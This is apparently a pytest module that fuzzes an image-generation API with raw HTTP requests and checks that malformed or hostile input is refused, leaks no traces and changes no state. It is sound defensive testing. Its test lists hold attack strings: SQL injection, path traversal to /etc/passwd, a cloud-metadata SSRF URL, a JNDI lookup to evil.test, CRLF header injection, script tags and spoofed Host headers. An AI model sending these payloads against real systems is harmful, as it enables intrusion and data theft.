"""Bad input causes no 5xx, no stack trace and no effect.

The requests are raw bytes, because HTTP libraries refuse to send some of them.
"""

from __future__ import annotations

import http.client
import json
import random
import socket
from collections.abc import Generator, Sequence
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit
from uuid import uuid4

import pytest
import requests

from local.stack import Stack, isolated_stack
from tests.clients.conftest import COMPAT_KEY, all_generations, stats
from tests.e2e.conftest import result, start

_SUBMIT = "/openai/images/generations:submit?api-version=2023-06-01-preview"
_JSON = ("Content-Type", "application/json")
_TRACES = ("Traceback", 'File "', ".py", "pydantic", "azure.storage", "blob.core", "AccountKey", "devstoreaccount1")


@dataclass(frozen=True)
class Answer:
    status: int
    headers: list[tuple[str, str]]
    """Names in lower case."""
    body: bytes

    def values(self, name: str) -> list[str]:
        return [value for found, value in self.headers if found == name]


def _send(
    base_url: str,
    method: str,
    target: str | bytes,
    headers: Sequence[tuple[str | bytes, str | bytes]] = (),
    body: bytes = b"",
) -> Answer:
    """Send exactly these bytes: no check, no escaping; only Host and Content-Length are added."""
    base = urlsplit(base_url)
    lines = [b"%s %s HTTP/1.1" % (method.encode(), base.path.encode() + _bytes(target)), b"Connection: close"]
    lines += [b"Host: " + base.netloc.encode(), b"Content-Length: %d" % len(body)]
    lines += [_bytes(name) + b": " + _bytes(value) for name, value in headers]
    with socket.create_connection((base.hostname, base.port), timeout=30) as connection:
        connection.sendall(b"\r\n".join(lines) + b"\r\n\r\n" + body)
        response = http.client.HTTPResponse(connection, method=method)
        response.begin()
        return Answer(response.status, [(name.lower(), text) for name, text in response.getheaders()], response.read())


def _bytes(text: str | bytes) -> bytes:
    return text if isinstance(text, bytes) else text.encode()


@dataclass
class Watch:
    """Reads the state that bad input must not change."""

    stack: Stack
    before: dict[str, Any] = field(default_factory=dict[str, Any])

    def state(self) -> dict[str, Any]:
        counted = stats(self.stack)
        return {
            "generations": sorted((found["id"], found["status"]) for found in all_generations(self.stack)),
            "upstream": [counted[name] for name in ("submits", "operations", "deletes")],
        }


@pytest.fixture
def no_effect(quiet_stack: Stack) -> Generator[None]:
    """Check that the test changes neither the list of generations nor the counters of the emulator."""
    watch = Watch(quiet_stack)
    before = watch.state()
    yield
    assert watch.state() == before


@pytest.fixture(scope="module")
def quiet_stack() -> Generator[Stack]:
    """An app for this module only, so every effect comes from its tests. It has two generations to lose."""
    with isolated_stack("--speed", "0", POLL_SCHEDULE="* * * * * *", COMPAT_API_KEYS=COMPAT_KEY) as running:
        assert result(start(running.base_url, "a lighthouse").headers["Location"]).status_code == 200
        start(running.base_url, "a lighthouse [never]")
        yield running


def _assert_refused(answer: Answer, *, statuses: Sequence[int] = range(400, 500)) -> None:
    assert answer.status in statuses, answer
    text = answer.body.decode()
    assert not [trace for trace in _TRACES if trace in text], text
    if answer.values("x-ms-request-id"):  # otherwise the HTTP server refused it before the app
        error = json.loads(text)["error"]
        assert answer.values("x-ms-error-code") == [error["code"]]
        assert len(text) < 20_000, "the answer must not grow with the request"


def _nested(depth: int, opening: str = "[", closing: str = "]") -> bytes:
    return (f'{{"prompt": {opening * depth}1{closing * depth}}}').encode()


def _object(**fields: Any) -> bytes:
    return json.dumps({"prompt": "a thing", **fields}).encode()


_BODIES = {
    "nothing": b"",
    "not JSON": b"prompt=a+thing",
    "cut off": b'{"prompt": "a thi',
    "two documents": b'{"prompt": "a thing"}{"prompt": "a thing"}',
    "a comment": b'{"prompt": "a thing"} // comment',
    "single quotes": b"{'prompt': 'a thing'}",
    "a list": b'[{"prompt": "a thing"}]',
    "a string": b'"a thing"',
    "null": b"null",
    "a number": b"1e999",
    "NaN": b'{"prompt": "a thing", "n": NaN}',
    "a NUL in a prompt": b'{"prompt": "a\\u0000b"}',
    "an invisible prompt": b'{"prompt": "\\u00a0\\u200b"}',
    "infinity": b'{"prompt": "a thing", "n": 1e999}',
    "NaN and deep lists": b'{"a": NaN, "b": ' + b"[" * 100_000,
    "half a surrogate and deep lists": rb'{"a": "\ud800", "b": ' + b"[" * 100_000,
    "an unknown field with a control character": '{"a\x85": 1e999, "b\x85": 1}'.encode(),
    "binary": bytes(range(256)),
    "zeros": b"\0" * 1_000,
    "Latin-1": '{"prompt": "ein Schiff über Köln"}'.encode("latin-1"),
    "UTF-16": '{"prompt": "a thing"}'.encode("utf-16"),
    "UTF-32": '{"prompt": "a thing"}'.encode("utf-32"),
    "a key twice": b'{"prompt": "a thing", "n": 1, "n": 2}',
    "a key twice, deeper": b'{"prompt": "a thing", "metadata": {"a": "b", "a": "c"}}',
    "overlong UTF-8": b'{"prompt": "\xc0\xaf"}',
    "half a surrogate in UTF-8": b'{"prompt": "\xed\xa0\x80"}',
    "half a surrogate escaped": rb'{"prompt": "\ud800"}',
    "a raw line break": b'{"prompt": "a\nthing"}',
    "gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03",
    "deep lists": _nested(20_000),
    "deep objects": _nested(20_000, '{"a":', "}"),
    "deep and never closed": b'{"prompt":' + b"[" * 100_000,
    "an unknown field": _object(promt="a thing"),
    "many unknown fields": _object(**{f"field{number}": number for number in range(5_000)}),
    "an unknown field with a long name": _object(**{"x" * 100_000: 1}),
    "a prototype": _object(__proto__={"n": 5}, constructor={"prototype": {}}),
    "our own fields": _object(id=str(uuid4()), token="x", status="succeeded", operation_location="http://evil.test"),
    "aliases": _object(timeout_seconds=30, outputFormat="png"),
    "n as a string": _object(n="2"),
    "n as a fraction": _object(n=1.5),
    "n as true": _object(n=True),
    "n huge": _object(n=10**400),
    "n negative": _object(n=-(2**63)),
    "n eleven": _object(n=11),
    "timeoutSeconds huge": _object(timeoutSeconds=10**30),
    "prompt a number": _object(prompt=1),
    "prompt null": _object(prompt=None),
    "prompt empty": _object(prompt=""),
    "prompt blank": _object(prompt=" \t\n\u00a0\u2003"),
    "prompt too long": _object(prompt="x" * 1_001),
    "prompt far too long": _object(prompt="x" * 200_000),
    "size as SQL": _object(size="1024x1024'; DROP TABLE generations; --"),
    "size huge": _object(size="99999x99999"),
    "size with a line break": _object(size="512x512\n"),
    "size in other digits": _object(size="\u0665\u0661\u0662x512"),
    "model as a path": _object(model="../../etc/passwd"),
    "model as a URL": _object(model="http://169.254.169.254/"),
    "metadata a list": _object(metadata=["a"]),
    "metadata of numbers": _object(metadata={"a": 1}),
    "metadata nested": _object(metadata={"a": {"b": "c"}}),
    "metadata with an empty key": _object(metadata={"": "a"}),
    "metadata too many": _object(metadata={str(number): "" for number in range(17)}),
    "metadata too long": _object(metadata={"a": "x" * 513}),
    "too large": _object(prompt="x" * 300_000),
    "far too large": b" " * 5_000_000,
}


@pytest.mark.usefixtures("no_effect")
def test_bad_body_is_refused(quiet_stack: Stack) -> None:
    for route, headers in (("/generations", [_JSON]), (_SUBMIT, [_JSON, ("api-key", COMPAT_KEY)])):
        for name, body in _BODIES.items():
            answer = _send(quiet_stack.base_url, "POST", route, headers, body)
            try:
                _assert_refused(answer, statuses=(400, 413))
            except AssertionError as error:
                raise AssertionError(f"{name}, {route}: {error}") from error


@pytest.mark.usefixtures("no_effect")
@pytest.mark.parametrize("version", ["1.0", "1.1"])
def test_request_without_a_body_is_answered_with_an_example(quiet_stack: Stack, version: str) -> None:
    base = urlsplit(quiet_stack.base_url)
    for route in ("/generations", _SUBMIT):
        lines = [f"POST {base.path}{route} HTTP/{version}", f"Host: {base.netloc}", f"api-key: {COMPAT_KEY}"]
        with socket.create_connection((base.hostname, base.port), timeout=30) as connection:
            connection.sendall("\r\n".join([*lines, "Connection: close", "", ""]).encode())
            response = http.client.HTTPResponse(connection, method="POST")
            response.begin()
            error = json.loads(response.read())["error"]
        assert response.status == 400
        assert error["message"].startswith('The body is empty. Send a JSON object such as {"prompt": ')


@pytest.mark.usefixtures("no_effect")
def test_mutated_body_is_refused(quiet_stack: Stack) -> None:
    """Replace and remove bytes. The body has no prompt, so a mutation that is still valid JSON is no valid request."""
    dice = random.Random(4711)
    good = json.dumps({"n": 1, "size": "512x512", "metadata": {"a": "b"}, "timeoutSeconds": 60}).encode()
    for _ in range(150):
        body = bytearray(good)
        for _ in range(dice.randint(1, 4)):
            at = dice.randrange(len(body))
            body[at : at + dice.randint(0, 2)] = dice.randbytes(dice.randint(0, 3))
        _assert_refused(_send(quiet_stack.base_url, "POST", "/generations", [_JSON], bytes(body)), statuses=(400,))


@pytest.mark.usefixtures("no_effect")
@pytest.mark.parametrize(
    "content_type",
    [
        "text/plain",
        "application/xml",
        "multipart/form-data; boundary=x",
        "application/jsonp",
        "\x00",
        "x" * 10_000,
        ",",
        "é",
    ],
)
def test_body_without_json_content_type_is_refused(quiet_stack: Stack, content_type: str) -> None:
    headers = [("Content-Type", content_type)]
    answer = _send(quiet_stack.base_url, "POST", "/generations", headers, _object())
    _assert_refused(answer, statuses=(400, 415, 431))


_IDS = [
    "x",
    "%00",
    "..%2f..%2fgenerations",
    "..%5c..%5cactive",
    "%2e%2e%2fdone",
    "..",
    ".",
    "%252e%252e%252f",
    "active%2f01900000-0000-7000-8000-000000000000",
    "' OR '1'='1".replace(" ", "%20"),
    "1;DROP%20TABLE%20generations",
    "$%7bjndi:ldap://evil.test/a%7d",
    "{{7*7}}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%0d%0aX-Injected:%20yes",
    "%ff%fe",
    "%c0%ae%c0%ae",
    "%ed%a0%80",
    "é",
    "%E2%80%AE",
    "9" * 400,
    "-1",
    "0x7f",
    "null",
    "x" * 5_000,
    "01900000-0000-4000-8000-000000000000",  # a UUID, but not of version 7
    "01900000-0000-7000-8000-00000000000g",
    "01900000-0000-7000-8000-000000000000%00",
    "01900000-0000-7000-8000-000000000000%20",
    "01900000-0000-7000-8000-000000000000%0a",
    "01900000-0000-7000-8000-000000000000.json",
    "01900000000070008000000000000000",
    "%7B01900000-0000-7000-8000-000000000000%7D",
    "urn:uuid:01900000-0000-7000-8000-000000000000",
    "%D9%A0%D9%A1900000-0000-7000-8000-000000000000",  # digits of another script
]
"""No generation can have one of these ids."""


def _routes_of_an_id(generation_id: str) -> list[tuple[str, str, list[tuple[str, str]]]]:
    old = f"/openai/operations/images/{generation_id}?api-version=2023-06-01-preview"
    key = [("api-key", COMPAT_KEY)]
    return [
        ("GET", f"/generations/{generation_id}?token=x", []),
        ("GET", f"/generations/{generation_id}/result?token=x", []),
        ("POST", f"/generations/{generation_id}/cancel?token=x", []),
        ("DELETE", f"/generations/{generation_id}?token=x", []),
        ("GET", old, key),
        ("DELETE", old, key),
    ]


@pytest.mark.usefixtures("no_effect")
def test_invalid_id_is_404(quiet_stack: Stack) -> None:
    _ids_are_not_found(quiet_stack, _IDS)


def test_invalid_id_is_404_without_storage() -> None:
    with isolated_stack(POLL_SCHEDULE="0 0 0 1 1 *", COMPAT_API_KEYS=COMPAT_KEY) as stack:
        made = start(stack.base_url, "a lighthouse").headers["Operation-Location"]
        assert stack.storage is not None
        stack.storage.process.kill()

        _ids_are_not_found(stack, _IDS)
        assert requests.get(made.partition("?")[0], timeout=30).status_code == 404, (
            "without a token, storage is not read"
        )
        with pytest.raises(requests.ConnectionError):  # storage is down
            requests.get(stack.storage.blob_endpoint, timeout=30)
        stack.host.kill()  # a graceful stop would wait for storage


def _ids_are_not_found(stack: Stack, ids: Sequence[str]) -> None:
    for generation_id in ids:
        for method, target, headers in _routes_of_an_id(generation_id):
            answer = _send(stack.base_url, method, target, headers)
            if method == "DELETE" and answer.status == 204:
                assert not answer.body
                continue  # 204 also when there is nothing to delete
            _assert_refused(answer, statuses=(404, 405, 400))


@pytest.mark.usefixtures("no_effect")
@pytest.mark.parametrize(
    "token",
    ["", "x", "%00", "%ff", "é", "x" * 10_000, "%0d%0aX-Injected:%20yes", "' OR 1=1 --".replace(" ", "%20"), "null"],
)
def test_wrong_token_gives_no_access(quiet_stack: Stack, token: str) -> None:
    known = all_generations(quiet_stack)[0]
    right = known["urls"]["self"].partition("token=")[2]
    for query in (f"token={token}", f"token={token}&token={right}", f"token[]={right}", f"TOKEN={right[:-1]}"):
        for method, suffix in (("GET", ""), ("GET", "/result"), ("POST", "/cancel"), ("DELETE", "")):
            answer = _send(quiet_stack.base_url, method, f"/generations/{known['id']}{suffix}?{query}")
            if method == "DELETE" and answer.status == 204:
                continue  # `no_effect` checks that it still exists
            _assert_refused(answer, statuses=(404,) if query.isascii() else (400,))


_QUERIES = [
    "top=5",
    "Status=failed",
    "status=failed&$filter=x",
    "status=done",
    "status=Succeeded",
    "status=succeeded&status=failed",
    "status=%00",
    "status=succeeded%0a",
    "status=" + "x" * 5_000,
    "maxpagesize=0",
    "maxpagesize=101",
    "maxpagesize=-1",
    "maxpagesize=1e2",
    "maxpagesize=" + "9" * 5_000,
    "maxpagesize=%D9%A1",  # an Arabic-Indic digit, which int() accepts
    "maxpagesize=%20%31",
    "maxpagesize=1&maxpagesize=2",
    "after=x",
    "after=%00",
    "after=%ff%fe",
    "after=" + "A" * 8_000,
    "after=..%2f..%2f",
    "after=bnVsbA",  # null
    "after=W10",  # []
    "after=WzEsMl0",  # [1,2]
    "after=" + "W1tb" * 1_500,
]


@pytest.mark.usefixtures("no_effect")
@pytest.mark.parametrize("query", _QUERIES, ids=lambda query: query[:40])
def test_bad_list_query_is_refused(quiet_stack: Stack, query: str) -> None:
    _assert_refused(_send(quiet_stack.base_url, "GET", f"/generations?{query}"), statuses=(400,))


_HOSTILE_HEADERS: dict[str, str | bytes] = {
    "empty": "",
    "long": "x" * 10_000,
    "a line break": "a\r\n X-Injected: yes",
    "a bare CR": b"a\rX-Injected: yes",
    "a tab": "a\tb",
    "Latin-1": b"\xe9\xff",
    "UTF-8": "ключ",
    "quotes": '"',
    "an open quote": '"abc',
    "backslashes": '"\\',
    "markup": "<script>alert(1)</script>",
    "SQL": "' OR 1=1 --",
    "a format": "%s%n{0}${jndi:ldap://evil.test/a}",
    "a path": "../../done/x",
    "many commas": "," * 1_000,
    "wait": "wait=" + "9" * 4_000,
    "wait below zero": "wait=-1",
    "other digits": "wait=\u0665",
}


@pytest.mark.usefixtures("no_effect")
@pytest.mark.parametrize("value", _HOSTILE_HEADERS.values(), ids=_HOSTILE_HEADERS)
def test_hostile_header_has_no_effect(quiet_stack: Stack, value: str | bytes) -> None:
    """The body is invalid, so no header can start a generation."""
    names = ["x-ms-client-request-id", "Prefer", "Idempotency-Key", "Repeatability-Request-ID", "Operation-Id"]
    names += [
        "traceparent",
        "tracestate",
        "x-ms-workflow-run-id",
        "X-Forwarded-Host",
        "X-Forwarded-Proto",
        "Accept",
        "Cookie",
    ]
    for name in names:
        for headers in ([(name, value)], [(name, value), (name, "b")]):
            answer = _send(quiet_stack.base_url, "POST", "/generations", [_JSON, *headers], b'{"n": 1}')
            _assert_refused(answer, statuses=(400, 431))
            assert not answer.values("x-injected")
            assert all("\r" not in text and "\n" not in text for _, text in answer.headers)


@pytest.mark.usefixtures("no_effect")
@pytest.mark.parametrize("header", ["Idempotency-Key", "Repeatability-Request-ID", "Operation-Id"])
@pytest.mark.parametrize("value", ["", '"', '""', '"abc', "x" * 256, "é", b"\xff", '"\\n"', "a\tb"])
def test_bad_idempotency_key_is_refused(quiet_stack: Stack, header: str, value: str | bytes) -> None:
    answer = _send(quiet_stack.base_url, "POST", "/generations", [_JSON, (header, value)], _object())
    _assert_refused(answer, statuses=(400,))
    assert answer.values("x-ms-error-code") == ["invalidHeader"]


@pytest.mark.usefixtures("no_effect")
def test_two_different_idempotency_keys_are_refused(quiet_stack: Stack) -> None:
    headers = [_JSON, ("Idempotency-Key", "a"), ("Repeatability-Request-ID", "b")]
    _assert_refused(_send(quiet_stack.base_url, "POST", "/generations", headers, _object()), statuses=(400,))


@pytest.mark.usefixtures("no_effect")
@pytest.mark.parametrize(
    "key", ["", "x", COMPAT_KEY[:-1], COMPAT_KEY + "x", "é", b"\xff\xfe", "x" * 10_000, f"{COMPAT_KEY},x"]
)
def test_wrong_api_key_gives_no_access(quiet_stack: Stack, key: str | bytes) -> None:
    headers = [_JSON, ("api-key", key)]
    _assert_refused(_send(quiet_stack.base_url, "POST", _SUBMIT, headers, _object()), statuses=(401,))


@pytest.mark.usefixtures("no_effect")
@pytest.mark.parametrize(
    "host",
    [
        "evil.test",
        "127.0.0.1@evil.test",
        "evil.test#127.0.0.1",
        "127.0.0.1.evil.test",
        "[::1",
        ":",
        "é",
    ],
)
def test_untrusted_host_header_is_not_used_in_urls(quiet_stack: Stack, host: str) -> None:
    base = urlsplit(quiet_stack.base_url)
    request = (
        f"POST {base.path}/generations HTTP/1.1\r\nHost: {host}\r\nX-Forwarded-Host: {host}\r\nConnection: close\r\n"
        "Content-Type: application/json\r\nContent-Length: 21\r\n\r\n" + '{"prompt": "a thing"}'
    )
    with socket.create_connection((base.hostname, base.port), timeout=30) as connection:
        connection.sendall(request.encode())
        response = http.client.HTTPResponse(connection, method="POST")
        response.begin()
        body = response.read().decode()
    assert response.status in (400, 503), body
    assert "evil.test" not in body
    assert not response.getheader("Location")


@pytest.mark.usefixtures("no_effect")
@pytest.mark.parametrize(
    "target", ["/", "//generations", "/generations//", "/Generations/../health/..", "/%00", "/admin/host/keys"]
)
@pytest.mark.parametrize("method", ["PUT", "PATCH", "DELETE", "OPTIONS"])
def test_unknown_route_is_404_or_405(quiet_stack: Stack, method: str, target: str) -> None:
    _assert_refused(_send(quiet_stack.base_url, method, target), statuses=(404, 405))


def test_prompt_of_any_script_is_kept_unchanged(quiet_stack: Stack) -> None:
    """Prompts that look hostile and are valid."""
    prompts = (
        "'; DROP TABLE x; --",
        "<b>\u202e\u0007",
        "\U0001f6a2 корабль 船",
        "%C3%A9",
        "\\u0041 ${7*7} {{7*7}}",
        "\ufeff\u200b.",
    )
    started = {prompt: start(quiet_stack.base_url, prompt) for prompt in prompts}
    for prompt, answer in started.items():
        monitor = result(answer.headers["Location"]).json()
        assert (monitor["status"], monitor["request"]["prompt"]) == ("succeeded", prompt)


_UNDERSTOOD = {
    "UTF-8 with a mark": ("", b'\xef\xbb\xbf{"prompt": "K\xc3\xb6ln"}'),
    "UTF-16": ("; charset=utf-16", '{"prompt": "Köln"}'.encode("utf-16")),
    "UTF-16 without a mark": ('; charset="UTF-16"', '{"prompt": "Köln"}'.encode("utf-16-le")),
    "UTF-32": ("; charset=utf-32", '{"prompt": "Köln"}'.encode("utf-32")),
    "Latin-1": ("; charset=ISO-8859-1", '{"prompt": "Köln"}'.encode("latin-1")),
    "null": ("", '{"prompt": "Köln", "n": null, "size": null, "user": null}'.encode()),
}


def test_unusual_body_is_understood(quiet_stack: Stack) -> None:
    for name, (charset, body) in _UNDERSTOOD.items():
        headers = [("Content-Type", f"application/json{charset}"), ("Idempotency-Key", "köln".encode().hex())]
        answers = [
            _send(quiet_stack.base_url, "POST", "/generations", headers, body),
            _send(quiet_stack.base_url, "POST", _SUBMIT, [*headers, ("api-key", COMPAT_KEY)], body),
        ]
        assert [answer.status for answer in answers] == [202, 202], (name, answers)
        # One key, so all of them must be the same request.
        assert json.loads(answers[0].body)["request"]["prompt"] == "Köln", name
        assert result(answers[0].values("location")[0]).status_code == 200
